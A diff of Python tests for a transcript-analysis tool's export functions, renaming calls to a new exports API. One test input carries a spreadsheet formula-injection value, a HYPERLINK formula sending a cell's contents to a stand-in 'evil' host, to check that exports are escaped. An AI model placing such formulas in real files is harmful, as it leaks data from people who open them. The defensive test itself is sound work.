@@ -78,9 +78,9 @@ def test_project_exports_escape_transcript_text(tmp_path: Path) -> None:
         "Interviewer: What happened?\nP01: =HYPERLINK(\"http://evil/?x=\"&A1,\"see\")\n"
         "Interviewer: And then?\nP01: @SUM(1) was all I said.\n", encoding="utf-8")
     with Project.create(tmp_path / "p.thematic") as project:
-        project.ingest([folder])
-        project.export_segments(tmp_path / "seg.xlsx", unit="turn")
-        project.export_segments(tmp_path / "seg.csv", unit="turn")
+        project.documents.ingest([folder], actor="ana")
+        project.exports.write("segments", tmp_path / "seg.xlsx", unit="turn")
+        project.exports.write("segments", tmp_path / "seg.csv", unit="turn")
     assert "<f>" not in zipfile.ZipFile(tmp_path / "seg.xlsx").read("xl/worksheets/sheet1.xml").decode()
     sheet = openpyxl.load_workbook(tmp_path / "seg.xlsx").active
     header = [c.value for c in sheet[1]]
@@ -153,7 +153,7 @@ def test_full_disk_through_a_project_export(sample_project: Project, tmp_path: P
     out = tmp_path / "exports"
     out.mkdir()
     with pytest.raises(WriteError, match=r"^.*codings\.xlsx: cannot write codings\.xlsx: the disk is full") as info:
-        sample_project.export_codings(out / "codings.xlsx")
+        sample_project.exports.write("codings", out / "codings.xlsx")
     text = str(info.value)
     assert "SELECT" not in text and len(text) < 300
     assert _leftovers(out) == []
